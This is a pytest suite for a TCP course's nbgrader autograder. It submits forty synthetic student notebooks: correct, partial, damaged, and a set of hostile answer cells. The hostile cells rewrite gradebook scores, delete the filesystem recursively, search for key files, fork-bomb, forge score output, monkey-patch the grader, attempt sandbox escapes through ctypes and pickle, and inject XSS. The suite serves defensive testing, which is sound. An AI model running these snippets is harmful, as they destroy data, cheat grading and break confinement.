"""Forty submissions, each with the score it deserves, typed by hand, and nbgrader's own books.

Points: q1 4 (four parts), q2 4 (four parts), q3 2, q4 3 (two parts), q5 3 (three parts),
q6 3 (a function, two sorts of inputs), q7 4 (half for the states, half for the way); q8, 4
points, is written and waits for a person.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from nbgrader.api import Gradebook

from tcpcourse.exercises import assignments
from tcpcourse.exercises.grading.batch import Report, autograde
from tcpcourse.exercises.grading.course import Course
from tcpcourse.exercises.grading.exporting import lines_of, write_table
from tcpcourse.exercises.grading.keys import read_key
from tcpcourse.exercises.grading.roster import Entry

# nbgrader and what it stands on warn about their own code.
pytestmark = [pytest.mark.filterwarnings("default"), pytest.mark.needs("bwrap")]

NAME = "ps1-opening"
GOOD_FUNCTION = """def answer_to_syn(seq, iss):
    return {"flags": "SA", "seq": iss, "ack": (seq + 1) % 2**32}"""
WORDS = "Both sides must know that the other has heard their first number."


def problem(student: str) -> Any:
    return assignments()[NAME].problem(student)


def right(student: str) -> dict[str, str]:
    """All answers typed as plain literals: the first style."""
    posed = problem(student).posed
    typed = {q: f"{q} = {literal(posed[q].right)!r}" for q in ("q1", "q2", "q3", "q4", "q5")}
    goal = posed["q7"].given["goal"]
    opener = "A" if goal["A ends in"] == "ESTABLISHED" else "B"
    other = "B" if opener == "A" else "A"
    text = "x" * goal[f"bytes of data that {opener} sends"]
    moves = f"{other} listen; {opener} connect; deliver 1; deliver 2; lose 3"
    typed["q7"] = f'q7 = "{moves}; {opener} send {text}; lose 4"'
    typed["q6"] = GOOD_FUNCTION
    return {f"{q}-answer": source for q, source in typed.items()} | {"q8": WORDS}


def literal(answer: Any) -> Any:
    return answer["answer"] if tuple(answer) == ("answer",) else dict(answer)


CALCULATED = {
    "q1-answer": """import numpy as np
given = ps.given("q1")
first = given["packets"][0]["seq"]
q1 = dict(seq2=np.int64([v for k, v in given.items() if k.startswith("first")][0]))
q1["ack2"] = q1["seq3"] = (first + 1) % 2**32
q1["ack3"] = float(int(q1["seq2"]) + 1)""",
    "q2-answer": """given = ps.given("q2")
opener = given["packets"][0]["from"]
listener = {"A": "B", "B": "A"}[opener]
after = {1: ("syn-sent", "Syn_Received"), 2: ("established", "syn_rcvd")}
q2 = {}
for row in given["moments"]:
    both = after.get(row["after packet"], ("Established", "ESTABLISHED"))
    q2[f"{opener} at {row['moment']}"], q2[f"{listener} at {row['moment']}"] = both""",
    "q4-answer": """rows, rules = ps.given("q4")["packets"], ps.given("q4")["rules"]
def lies():
    for row in rows:
        before = [r for r in rows if r["no"] < row["no"]]
        mine = [r for r in before if r["from"] == row["from"]]
        seq = sum(r["len"] + ("S" in r["flags"]) for r in mine)
        ack = sum(r["len"] + ("S" in r["flags"]) for r in before if r["from"] != row["from"])
        if row["no"] == 1 and row["ack"] is not None:
            return 1, "no ack"
        if row["seq"] != seq:
            return row["no"], "last one ended"
        if row["no"] > 1 and row["ack"] != ack:
            return row["no"], "next number expected"
number, words = lies()
q4 = {"packet": number, "rule": [k for k, rule in rules.items() if words in rule][0]}""",
    "q5-answer": """sent = ps.given("q5")["sent"]
answer = [row for row in sent if row["flags"] == "SA"][0]
syn, third = sent[answer["no"] - 2], sent[answer["no"]]
travel = answer["ms"] - syn["ms"]
q5 = {"again": syn["no"], "opener": answer["ms"] + travel, "listener": third["ms"] + travel}""",
    "q6-answer": """from dataclasses import dataclass

@dataclass
class Answer:
    flags: str
    seq: int
    ack: int

def answer_to_syn(seq, iss):
    import tcpcourse as tcp
    print("an answer to", seq)
    return vars(Answer(flags="SA", seq=iss, ack=tcp.SeqNumber(seq) + 1))""",
}


def calculated(student: str) -> dict[str, str]:
    """Answers calculated from what is given, in other types and spellings: the second style."""
    return right(student) | CALCULATED


def only_q1(student: str) -> dict[str, str]:
    return {"q1-answer": right(student)["q1-answer"]}


# -- what is handed in: each takes the release and the student, and gives the file's content --

Maker = Callable[[Any, str], Any]


def with_answers(answers: Callable[[str], dict[str, str]], **more: str) -> Maker:
    def make(release: Any, student: str) -> Any:
        named = {name.replace("_", "-"): source for name, source in more.items()}
        return fill(release, student, answers(student) | named)

    return make


def fill(release: Any, student: str, answers: dict[str, str]) -> Any:
    book = copy.deepcopy(release)
    for cell in book.cells:
        if cell.id == "setup":
            cell.source = cell.source.replace('student = ""', f'student = "{student}"')
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in answers:
            cell.source = answers[name]
    return book


def attack(source: str, student_answers: Callable[[str], dict[str, str]] = only_q1) -> Maker:
    """An honest first answer, and the attack in the place of the second."""
    return with_answers(student_answers, q2_answer=source)


def changed(change: Callable[[Any, str], Any]) -> Maker:
    """All answers right, but something happened to the file."""

    def make(release: Any, student: str) -> Any:
        book = fill(release, student, right(student))
        return change(book, student) or book

    return make


def cell(book: Any, name: str) -> Any:
    return next(c for c in book.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def half(student: str) -> dict[str, str]:
    """Half of each question's parts."""
    posed = problem(student).posed
    q1, q2, q4, q5 = (dict(posed[q].right) for q in ("q1", "q2", "q4", "q5"))
    q1["seq2"] = q1["ack3"] = 5
    q2["A at 1"] = "TIME_WAIT"  # both ends of a moment count together
    good = {q4["rule"], *posed["q4"].also.get("rule", ())}
    q4["rule"] = next(letter for letter in "abcd" if letter not in good)
    q5["opener"] = q5["listener"] = 99_999
    script = re.sub(r"; [AB] send.*", '"', right(student)["q7-answer"])
    typed = {"q1": q1, "q2": q2, "q3": list("abcdefg"), "q4": q4, "q5": q5}
    answers = {f"{q}-answer": f"{q} = {value!r}" for q, value in typed.items()}
    unwrapped = GOOD_FUNCTION.replace("(seq + 1) % 2**32", "seq + 1")
    return answers | {"q6-answer": unwrapped, "q7-answer": script}


def misconceived(student: str) -> dict[str, str]:
    """What a student hands in who thinks that a SYN takes up no number, and more."""
    posed = problem(student).posed
    rows = posed["q1"].given["packets"]
    first = rows[0]["seq"]
    isn = posed["q1"].right["seq2"]
    q1 = {"seq2": isn, "ack2": first, "seq3": first, "ack3": isn}
    q2 = dict.fromkeys(posed["q2"].right, "ESTABLISHED")
    sent = posed["q5"].given["sent"]
    answer = next(row for row in sent if row["flags"] == "SA")
    travel = answer["ms"] - sent[answer["no"] - 2]["ms"]
    q5 = {"again": answer["no"] - 1, "opener": 2 * travel, "listener": 3 * travel}
    same = GOOD_FUNCTION.replace("(seq + 1) % 2**32", "seq")
    typed = {"q1": q1, "q2": q2, "q5": q5}
    return {f"{q}-answer": f"{q} = {value!r}" for q, value in typed.items()} | {"q6-answer": same}


# -- accidents -------------------------------------------------------------------------------


STUBS = {
    "q1-answer": 'q1 = {"seq2": None, "ack2": None, "seq3": None, "ack3": None}\n# Your code here.',
    "q3-answer": "q3 = None\n# Your code here.",
    "q6-answer": "def answer_to_syn(seq, iss):\n"
    '    """The SYN,ACK to a SYN without data."""\n    # Your code here.',
    "q7-answer": 'q7 = ""\n# Your code here.',
}
"""What the release holds in the place of an answer."""


def copied(book: Any, student: str) -> None:
    """A cell copied with all its metadata, twice: as released, and with the answer."""
    stub = copy.deepcopy(cell(book, "q3-answer"))
    stub.source, stub.id = STUBS["q3-answer"], "copy1"
    again = copy.deepcopy(cell(book, "q4-answer"))
    again.id = "copy2"
    first = cell(book, "q5-answer")
    better = copy.deepcopy(first)
    first.source, better.id = "q5 = {'again': 1}", "copy3"
    book.cells += [stub, again, better]


def deleted(book: Any, student: str) -> None:
    gone = ("q1-words", "q1", "q2-answer", "q6", "q8")
    book.cells = [
        c for c in book.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in gone
    ]


def retyped(book: Any, student: str) -> None:
    """Answers written into new cells; the empty places stay where they were."""
    fresh = []
    for name in ("q1-answer", "q6-answer", "q7-answer"):
        old = cell(book, name)
        new = copy.deepcopy(old)
        new.metadata, new.id = {}, f"new-{name}"
        fresh.append(new)
        old.source = STUBS[name]
    book.cells[2:2] = fresh


def reordered(book: Any, student: str) -> None:
    book.cells = book.cells[::-1]


def no_metadata(book: Any, student: str) -> None:
    for each in book.cells:
        each.metadata = {}
    book.metadata = {}


def nothing_but_source(book: Any, student: str) -> Any:
    """Another front end: an old format, no ids, no metadata, sources as lists of lines."""
    cells = [
        {"cell_type": c.cell_type, "source": c.source.splitlines(keepends=True)} for c in book.cells
    ]
    return {
        "nbformat": 4,
        "nbformat_minor": 0,
        "metadata": {"colab": {"name": "x"}},
        "cells": cells,
    }


def format_three(book: Any, student: str) -> Any:
    cells = [
        {"cell_type": c.cell_type, "metadata": dict(c.metadata)}
        | ({"input": c.source} if c.cell_type == "code" else {"source": c.source})
        for c in book.cells
    ]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


def older_release(book: Any, student: str) -> None:
    """The sixth question was called otherwise, the seventh did not exist yet."""
    cell(book, "q6-words").source = "## q6: Reply to a SYN"
    cell(book, "q1").source = "ps.verify(q1)"
    book.cells = [
        c for c in book.cells
        if c.metadata.get("nbgrader", {}).get("grade_id") not in ("q7-words", "q7-answer", "q7")
    ]  # fmt: skip


def huge_outputs(book: Any, student: str) -> None:
    text = {"output_type": "stream", "name": "stdout", "text": "0123456789" * 500_000}
    for name in ("q1-answer", "q2-answer", "q3-answer"):
        cell(book, name).outputs = [text]


def other_kinds(book: Any, student: str) -> None:
    """The cell menu was hit: an answer became raw text."""
    answer = cell(book, "q5-answer")
    answer.cell_type = "raw"
    del answer["outputs"], answer["execution_count"]


def duplicate_ids(book: Any, student: str) -> None:
    for each in book.cells:
        each.id = "same"


def in_the_check(book: Any, student: str) -> None:
    """The answer was typed into the cell that holds the mark."""
    cell(book, "q3").source = cell(book, "q3-answer").source + '\nps.check("q3", q3)'
    cell(book, "q3-answer").source = "q3 = None"


def magics(book: Any, student: str) -> None:
    cell(book, "q1-answer").source = (
        "%matplotlib inline\n!pip list\n" + cell(book, "q1-answer").source
    )
    cell(book, "q2-answer").source = "%%time\n" + cell(book, "q2-answer").source
    cell(book, "q3-answer").source += "\nq3?"


def an_error_between(book: Any, student: str) -> None:
    cell(book, "q2-answer").source += "\n1 / 0"


def setup_cell(book: Any) -> Any:
    return next(c for c in book.cells if c.id == "setup")


def ran(book: Any) -> None:
    """As saved after all cells were run, without an error."""
    for number, each in enumerate(book.cells):
        if each.cell_type == "code":
            each.execution_count = number


def another_front_end(book: Any, student: str) -> None:
    ran(book)
    setup_cell(book).source = "from google.colab import drive\n" + setup_cell(book).source


def asks_for_the_id(book: Any, student: str) -> None:
    ran(book)
    setup_cell(book).source = "student = input()\n" + setup_cell(book).source


def setup_deleted(book: Any, student: str) -> None:
    book.cells.remove(setup_cell(book))


def shell_lines(book: Any, student: str) -> None:
    cell(book, "q1-answer").source = "files = !ls\n" + cell(book, "q1-answer").source
    answer = cell(book, "q3-answer")
    before = copy.deepcopy(answer)
    before.metadata, before.id, before.source = {}, "tried", answer.source[len("q3 = ") :]
    book.cells.insert(book.cells.index(answer), before)
    answer.source = "q3 = _"


def only_here(book: Any, student: str) -> None:
    """What ran there and does not run here: a package, and a name that a deleted cell gave."""
    ran(book)
    cell(book, "q4-answer").source = "import a_package_of_theirs\n" + cell(book, "q4-answer").source
    cell(book, "q3-answer").source = "q3 = order_from_a_cell_that_is_gone"


def typing_error(book: Any, student: str) -> None:
    """It never ran anywhere: an honest zero, with a line."""
    cell(book, "q3-answer").source = cell(book, "q3-answer").source.replace("[", "(")


def other_types(book: Any, student: str) -> None:
    """Decimals, members of an enum, sets of one's own: a part that is none costs that part."""
    typed = cell(book, "q1-answer").source
    cell(book, "q1-answer").source = (
        f"{typed}\nfrom decimal import Decimal\nfrom enum import IntEnum\n"
        "q1['seq2'] = Decimal(q1['seq2'])\n"
        "q1['ack2'] = IntEnum('Numbers', {'ack': q1['ack2']}).ack"
    )
    cell(book, "q5-answer").source += "\nq5['again'] = object()"


def forgot_id(book: Any, student: str) -> None:
    setup = next(c for c in book.cells if c.id == "setup")
    setup.source = setup.source.replace(f'"{student}"', '""')


# -- attacks: q1 is answered honestly (4 points), q2 is the attack ----------------------------

ATTACKS = {
    "gradebook": """import sqlite3, glob, os
for base in ("/", "..", "../..", os.path.expanduser("~"), os.environ.get("HOME", "/")):
    for path in glob.glob(f"{base}/**/gradebook.db", recursive=True):
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 4, manual_score = 4")
        db.commit()
raise SystemError("gradebooks: none")""",
    "deletes": """import os, shutil
for place in os.listdir("/"):
    shutil.rmtree("/" + place, ignore_errors=True)
for root, folders, files in os.walk("/"):
    for name in files:
        try: os.unlink(os.path.join(root, name))
        except OSError: pass""",
    "reads": """import os
found = []
for root, folders, files in os.walk("/"):
    not_theirs = ("proc", "sys", "usr", "site-packages")
    folders[:] = [f for f in folders if f not in not_theirs]
    theirs = ("grading.key", "gradebook.db", "canary.txt", "ps1-", "references.", "slips.")
    found += [root + "/" + name for name in files if name.startswith(theirs)]
sizes = []
for name in found:
    try: sizes.append((name, len(open(name, "rb").read())))
    except OSError: sizes.append((name, 0))
print("FOUND", sizes, sorted(os.environ))""",
    "sockets": """import socket
told = []
for family, place in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("10.0.0.1", 80)),
                      (socket.AF_UNIX, "/run/user/0/bus")):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(place); s.send(b"stolen")
        told.append("CONN" "ECTED")
    except OSError as e: told.append(type(e).__name__)
print(told)""",
    "forks": "import os\nwhile True:\n    os.fork()",
    "memory": "held = []\nwhile True:\n    held.append(bytearray(1 << 28))",
    "memory-of-many": """import os, signal, time
for _ in range(12):
    if os.fork() == 0:
        held = b"x" * (300 << 20)
        time.sleep(60)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
time.sleep(60)""",
    "stubborn": """import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: signal.signal(signal.SIGALRM, signal.SIG_IGN)
    except BaseException: pass""",
    "exits": "import os, sys\nsys.exit(0)",
    "dies": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "prints-scores": """print('{"q2": {"points": 4.0}}')
print("4.0")
import sys; sys.__stdout__.write("4\\n")
4.0""",
    "forges-messages": """import gc, json, os
line = json.dumps({"answer": "q2", "value": True, "points": 4, "mark": 4, "score": 4})
more = json.dumps({"result": 4, "points": 4}) + "\\n" + json.dumps({"done": True, "points": 27})
for number in range(3, 64):
    try: os.write(number, (line + "\\n" + more + "\\n").encode())
    except OSError: pass""",
    "floods": """import os
for number in range(3, 64):
    try:
        while True: os.write(number, b"x" * 1000000)
    except OSError: pass""",
    "patches-course": """import tcpcourse.exercises.question as question
import tcpcourse.exercises.values as values, tcpcourse.exercises.functions as functions
values.Value.mark = lambda *a: question.Mark(4.0, "All right.")
functions.Function.mark_results = lambda *a: question.Mark(3.0, "All right.")
question.plain = lambda value: 4
functions.same = lambda *a: True""",
    "patches-builtins": """import builtins, json, math
builtins.round = builtins.sum = builtins.min = lambda *a, **k: 4
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: dict
json.dumps = json.JSONEncoder.encode = lambda *a, **k: '{"points": 4}'
math.isfinite = lambda *a: True""",
    "equals-all": """class Equal(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def get(self, *a): return self
    def casefold(self): return self
    def __getitem__(self, key): return self
q2 = {"A at 1": Equal(), "B at 1": Equal(), "A at 2": Equal(), "B at 2": Equal()}
q3 = q4 = q5 = Equal()
def answer_to_syn(seq, iss): return Equal()""",
    "ast": """import ast, sys
class Always(ast.NodeTransformer):
    def visit_Compare(self, node): return ast.Constant(True)
class Finder:
    def find_spec(self, *a): return None
sys.meta_path.insert(0, Finder())
parse = ast.parse
ast.parse = lambda *a, **k: Always().visit(parse(*a, **k))
compile_ = compile
import builtins
builtins.compile = lambda s, *a, **k: compile_(s, *a, **k)""",
    "frames": """import gc, sys
frame, seen = sys._getframe(), []
while frame:
    seen.append(sorted(frame.f_locals)); frame = frame.f_back
found = [o for o in gc.get_objects() if isinstance(o, dict) and "challenges" in o]
found += [o for o in gc.get_objects() if type(o).__name__ in ("Job", "Graded")]
text = open("/proc/self/maps").read() + open("/proc/1/cmdline").read()
print("KEYS", len(found), "SECRET" in text)
import tcpcourse.exercises.references as answers
answer_to_syn = answers.REFERENCES["answer_to_syn"]""",
    "grading-package": """import tcpcourse.exercises.grading.marking as marking
answer_to_syn = 1""",
    "threads": """import threading, subprocess, time, os
def for_ever():
    while True: time.sleep(0.01)
for _ in range(20): threading.Thread(target=for_ever, daemon=False).start()
subprocess.Popen(["sleep", "86399"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(86398)
    os._exit(0)""",
    "huge": "q2 = 'x' * 100_000_000\nq3 = [0] * 100_000_000\nq4 = 10 ** 1_000_000",
    "not-a-number": """nan, inf = float("nan"), float("inf")
q2 = {"A at 1": nan}
q3, q4, q5 = [nan] * 7, {"packet": inf, "rule": nan}, {"again": nan, "opener": nan, "listener": nan}
def answer_to_syn(seq, iss): return {"flags": "SA", "seq": nan, "ack": nan}""",
    "deep": """deep = []
for _ in range(100_000): deep = [deep]
q2 = q3 = q4 = deep
q5 = []; q5.append(q5)
def answer_to_syn(seq, iss): return deep""",
    "hostile-objects": """import os
class Bad:
    def __repr__(self): os._exit(1)
    __str__ = __format__ = __repr__
    def __reduce__(self): return (os.system, ("touch owned",))
    def __getattribute__(self, name): raise SystemExit
    def __del__(self): raise KeyboardInterrupt
class Meta(type):
    __module__ = property(lambda self: os._exit(1))
q3, q4 = Bad(), {"packet": Bad(), "rule": Bad()}
class Str(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
q5 = {Str("again"): Str("2"), Str("opener"): 1, Str("listener"): 1}
def answer_to_syn(seq, iss): return Bad()""",
    "escapes": """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
told = [libc.unshare(0x10000000), libc.mount(b"none", b"/", None, 0, None),
        libc.setuid(0), libc.chroot(b"/")]
print("ROO" "T" if 0 in told else "no")""",
    "markup": """print("<script>alert(1)</script>")
raise ValueError("<img src=x onerror=alert(2)>")""",
    "remembers": """import os
def answer_to_syn(seq, iss):
    print("SEEN", seq, iss)
    for place in ("../dev/shm/seen", "seen"):
        open(place, "a").write(f"{seq} {iss}\\n")
    raise ValueError(f"SEEN {seq} {iss}")""",
    "stops-in-the-call": """import os
def answer_to_syn(seq, iss):
    os._exit(0)""",
    "other-student": "ps = start('ps1-opening', student='perfect-1')\nq3 = OTHER",
}
"""What is tried. Nothing of it earns a point: each is worth the 4 points of its first answer."""

ONLY_Q1 = "4 0 0 0 0 0 0"


@dataclass(frozen=True)
class Case:
    make: Maker
    scores: str  # q1 to q7, by hand; "?" where a person has to look
    told: str = ""  # what the report must say, at least


CASES: dict[str, Case] = {
    "perfect-1": Case(with_answers(right), "4 4 2 3 3 3 4"),
    "perfect-2": Case(with_answers(calculated), "4 4 2 3 3 3 4"),
    "blank": Case(with_answers(lambda student: {}), "0 0 0 0 0 0 0"),
    "half": Case(with_answers(half), "2 2 0 1.5 1 1.5 2"),
    # seq2 is given; both are ESTABLISHED after the third packet; "again"; no function
    "misconceived": Case(with_answers(misconceived), "1 2 0 0 1 0 0"),
    "upper.case": Case(with_answers(right), "4 4 2 3 3 3 4"),
    # accidents
    "copied": Case(changed(copied), "4 4 2 3 3 3 4", "q5-answer: This cell is there 2 times"),
    "deleted": Case(changed(deleted), "4 0 2 3 3 3 4", "q2-answer: This cell is not in"),
    "retyped": Case(changed(retyped), "4 4 2 3 3 3 4"),
    "reordered": Case(changed(reordered), "4 4 2 3 3 3 4", "another order"),
    "no-metadata": Case(changed(no_metadata), "4 4 2 3 3 3 4"),
    "other-front-end": Case(changed(nothing_but_source), "4 4 2 3 3 3 4"),
    "format-three": Case(changed(format_three), "4 4 2 3 3 3 4"),
    "older-release": Case(changed(older_release), "4 4 2 3 3 3 0", "q7-answer: This cell is not"),
    "huge-outputs": Case(changed(huge_outputs), "4 4 2 3 3 3 4"),
    "other-kinds": Case(changed(other_kinds), "4 4 2 3 3 3 4", "q5-answer: This cell was made"),
    "duplicate-ids": Case(changed(duplicate_ids), "4 4 2 3 3 3 4"),
    "in-the-check": Case(changed(in_the_check), "4 4 2 3 3 3 4", "q3: This cell belongs to"),
    "magics": Case(changed(magics), "4 4 2 3 3 3 4"),
    "an-error": Case(changed(an_error_between), "4 4 2 3 3 3 4"),
    "forgot-id": Case(changed(forgot_id), "4 4 2 3 3 3 4", "setup: The first cell failed"),
    "colab": Case(changed(another_front_end), "4 4 2 3 3 3 4", "setup: The first cell failed: Mod"),
    "asks": Case(changed(asks_for_the_id), "4 4 2 3 3 3 4", "setup: The first cell failed: EOFE"),
    "setup-gone": Case(changed(setup_deleted), "4 4 2 3 3 3 4", "setup: The first cell failed"),
    "shell": Case(changed(shell_lines), "4 4 2 3 3 3 4"),
    "only-here": Case(changed(only_here), "4 4 ? ? 3 3 4", "q4-answer: This cell ran for the stu"),
    "typing": Case(changed(typing_error), "4 4 0 3 3 3 4", "q3-answer: This cell failed, and th"),
    "types": Case(changed(other_types), "4 4 2 3 2 3 4", "q5: Of this answer something could"),
    "two-files": Case(with_answers(right), "4 4 2 3 3 3 4", "only 'ps1-opening (1).ipynb' holds"),
    "renamed": Case(with_answers(right), "4 4 2 3 3 3 4", "is taken for"),
    "markup-name": Case(with_answers(right), "4 4 2 3 3 3 4", "is taken for"),
    "damaged": Case(
        lambda release, student: json.dumps(fill(release, student, {}))[:-700],
        "? ? ? ? ? ? ?", "the notebook's file is damaged",
    ),
    "empty": Case(lambda release, student: "", "? ? ? ? ? ? ?", "file is empty"),
    "nested": Case(
        lambda release, student: "[" * 200_000 + "]" * 200_000, "? ? ? ? ? ? ?", "damaged"
    ),
    "no-notebook": Case(lambda release, student: "[1, 2]", "? ? ? ? ? ? ?", "no notebook"),
    "linked": Case(with_answers(right), "? ? ? ? ? ? ?", "there is no notebook but a link"),
    "written-markup": Case(
        with_answers(only_q1, q8="<script>alert(3)</script> [x](javascript:alert(4)) a < b"),
        ONLY_Q1,
    ),
}  # fmt: skip

SAID = {
    "forks": "q2-answer: Running this was stopped: it started too many processes",
    "memory-of-many": "q2-answer: Running this was stopped",
    "stubborn": "q2-answer: Running this was stopped: too slow",
    "dies": "q2-answer: Running this was stopped: it ended the process",
    "floods": "q2-answer: Running this was stopped",
    "hostile-objects": "",
    "stops-in-the-call": "q6: Running this was stopped: it ended the process",
    "other-student": "another student's",
}
CASES |= {f"x-{name}": Case(attack(source), ONLY_Q1, SAID.get(name, ""))
          for name, source in ATTACKS.items()}  # fmt: skip


def stolen_ids(book: Any, student: str) -> None:
    """The answer to q1 is shown under every question's name."""
    for name in ("q2-answer", "q3-answer", "q4-answer", "q5-answer", "q7-answer"):
        cell(book, name).source = f"{name[:2]} = None"
        cell(book, name).metadata["nbgrader"]["grade_id"] = "q1-answer"
    cell(book, "q6-answer").metadata["nbgrader"] |= {"grade_id": "q6", "points": 400, "grade": True}
    cell(book, "q1").metadata["nbgrader"]["points"] = 1000


def forged_outputs(book: Any, student: str) -> None:
    for each in book.cells:
        name = each.metadata.get("nbgrader", {}).get("grade_id", "")
        if each.cell_type == "code":
            data = {"text/plain": "4.0", "text/html": "<script>alert(5)</script>"}
            each.outputs = [
                {
                    "output_type": "execute_result",
                    "data": data,
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
        each.metadata["tcpcourse"] = {"score": 4, "points": 4}
        if name in ("q2-answer", "q3-answer", "q4-answer", "q5-answer", "q7-answer"):
            each.source = f"{name[:2]} = None"
        if name == "q6-answer":
            each.source = "pass"
    book.metadata["widgets"] = {"x": "</script><script>alert(6)</script>"}


# What a student's own machine shows can be looked up there: the guide says so. A typed answer
# that was looked up is an answer; what is graded on unseen inputs cannot be had this way.
CASES["x-looks-up"] = Case(
    attack("""q2 = dict(ps.problem.posed["q2"].right)
import tcpcourse.exercises.functions as functions
answer_to_syn = functions.import_module(functions.REFERENCES).REFERENCES["answer_to_syn"]"""),
    "4 4 0 0 0 0 0",
    "q2-answer: This cell reads .problem, which no answer needs.",
)
CASES["x-stolen-ids"] = Case(changed(stolen_ids), "4 0 0 0 0 3 0")
CASES["x-forged-outputs"] = Case(changed(forged_outputs), ONLY_Q1)


@dataclass(frozen=True)
class Graded:
    """What the batch left behind."""

    root: Path
    report: Report
    seconds: float
    canary: str


@pytest.fixture(scope="module")
def graded(klass: Any, tmp_path_factory: pytest.TempPathFactory) -> Graded:
    """Hand everything in and grade it once, with nbgrader's own books."""
    canary = "canary-4711-secret"
    (klass.root / "canary.txt").write_text(canary)
    release = klass.release
    for student, case in CASES.items():
        if student == "linked":
            (klass.folder(student) / f"{NAME}.ipynb").symlink_to(klass.root / "canary.txt")
            (klass.folder(student) / "more.txt").symlink_to(klass.root / "gradebook.db")
            continue
        if student == "two-files":
            klass.hand_in(student, fill(release, student, {}))
        name = {
            "two-files": f"{NAME} (1)",
            "renamed": "my solution (1)",
            "markup-name": "<img src=x onerror=alert(7)>",
        }
        text = case.make(release, student)
        if student == "x-other-student":
            theirs = repr(literal(problem("perfect-1").posed["q3"].right))
            text = json.loads(json.dumps(text).replace("OTHER", theirs))
        klass.hand_in(student, text, name.get(student, NAME))
    (klass.root / "submitted" / "no student!" / NAME).mkdir(parents=True)
    (klass.root / "submitted" / "no-file" / NAME).mkdir(parents=True)
    began = time.monotonic()
    report = autograde(klass.root, NAME)
    return Graded(klass.root, report, time.monotonic() - began, canary)


def rows(root: Path) -> dict[str, dict[str, Any]]:
    """Each student's grades by question, from nbgrader's gradebook."""
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as book:
        return {
            submission.student.id: {
                grade.name: (grade.auto_score, grade.needs_manual_grade)
                for notebook in submission.notebooks
                for grade in notebook.grades
            }
            for submission in book.assignment_submissions(NAME)
        }


@pytest.mark.parametrize("student", CASES)
def test_the_score_it_deserves(graded: Graded, student: str) -> None:
    case = CASES[student]
    grades = rows(graded.root)[student]
    lines = [line for line in graded.report.lines if line[0] == student]
    for at, score in enumerate(case.scores.split(), start=1):
        given, by_hand = grades[f"q{at}"]
        if score == "?":
            assert given is None and by_hand, (f"q{at}", lines)
        else:
            assert (given, by_hand) == (float(score), False), (f"q{at}", lines)
    said = "\n".join(f"{cell}: {words}" for _, cell, words in lines)
    assert case.told in said
    if not case.told and not student.startswith("x-"):
        assert not lines


def test_what_is_written_waits_for_a_person(graded: Graded) -> None:
    grades = rows(graded.root)
    assert grades["perfect-1"]["q8"] == (None, True)
    assert grades["no-metadata"]["q8"] == (None, True)
    # nbgrader's own rule: what was not touched is worth nothing
    assert grades["blank"]["q8"] == (0.0, False)
    assert grades["damaged"]["q8"] == (None, True)


def test_every_folder_is_graded_or_reported(graded: Graded) -> None:
    assert set(rows(graded.root)) == {*CASES, "no-file"}
    said = {student: words for student, _, words in graded.report.lines}
    assert "no student id" in said["no student!"] or "student id" in said["no student!"]
    assert "there is no notebook" in said["no-file"]
    with open(graded.root / f"report-{NAME}.csv", encoding="utf-8", newline="") as file:
        assert len(list(csv.reader(file))) == len(graded.report.lines) + 1


def test_the_long_table(graded: Graded) -> None:
    """Nobody's zero is silent: what has no final mark is blank, and says why."""
    course = Course(graded.root)
    known = {"1": Entry("perfect-1"), "2": Entry("never-came")}
    write_table(lines_of(course, [NAME], known), graded.root / "grades.csv")
    with open(graded.root / "grades.csv", encoding="utf-8", newline="") as file:
        table = {row["student"]: row for row in csv.DictReader(file)}
    assert set(table) == {*CASES, "no-file", "no student!", "never-came"}
    told = {name: (row["status"], row["score"], row["waits for"]) for name, row in table.items()}
    assert told["perfect-1"] == ("waits for a person", "", "q8")
    assert told["blank"] == ("graded", "0", "")
    assert told["half"] == ("graded", "10", "")
    assert told["damaged"] == ("could not be read", "", "q1 q2 q3 q4 q5 q6 q7 q8")
    assert told["no student!"] == ("not graded", "", "")
    assert told["never-came"] == ("not handed in", "", "")
    assert {row["max_score"] for row in table.values()} == {"27"}


def everything(root: Path, *folders: str) -> str:
    """All text below these folders, and of the report."""
    files = [path for name in folders for path in (root / name).rglob("*") if path.is_file()]
    files.append(root / f"report-{NAME}.csv")
    return "\n".join(path.read_text(encoding="utf-8") for path in files)


def test_nothing_is_harmed(graded: Graded) -> None:
    """The folder, its files and the machine are as they were, and nobody has looked."""
    assert (graded.root / "canary.txt").read_text() == graded.canary
    for student in CASES:
        assert (graded.root / "submitted" / student / NAME).is_dir()
    text = everything(graded.root, "autograded", "marks")
    assert graded.canary not in text
    assert read_key(Path(os.environ["TCPCOURSE_GRADING_KEY"])).hex() not in text
    assert "CONNECTED" not in text
    assert "ROOT" not in text
    found = re.search(r"FOUND (\[.*?\]) (\[.*?\])", text)
    assert found is not None
    # the right answers' file, and what Python compiled of it, are there by name: they hold nothing
    sizes = dict(eval(found[1]))
    home = "/course/tcpcourse/exercises/"
    assert {f"{home}references.py", f"{home}slips.py"} <= set(sizes) and set(sizes.values()) == {0}
    assert all(
        re.fullmatch(rf"{home}(__pycache__/)?(references|slips)\.\S+", place) for place in sizes
    )
    assert not {"TCPCOURSE_GRADING_KEY", "USER", "SSH_AUTH_SOCK"} & set(eval(found[2]))
    assert not Path("owned").exists()
    assert not Path("seen").exists()


def test_nothing_goes_on_running(graded: Graded) -> None:
    words = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert "86399" not in words


def test_no_call_is_shown(graded: Graded) -> None:
    """The inputs that a function was tried on are nowhere in what students get."""
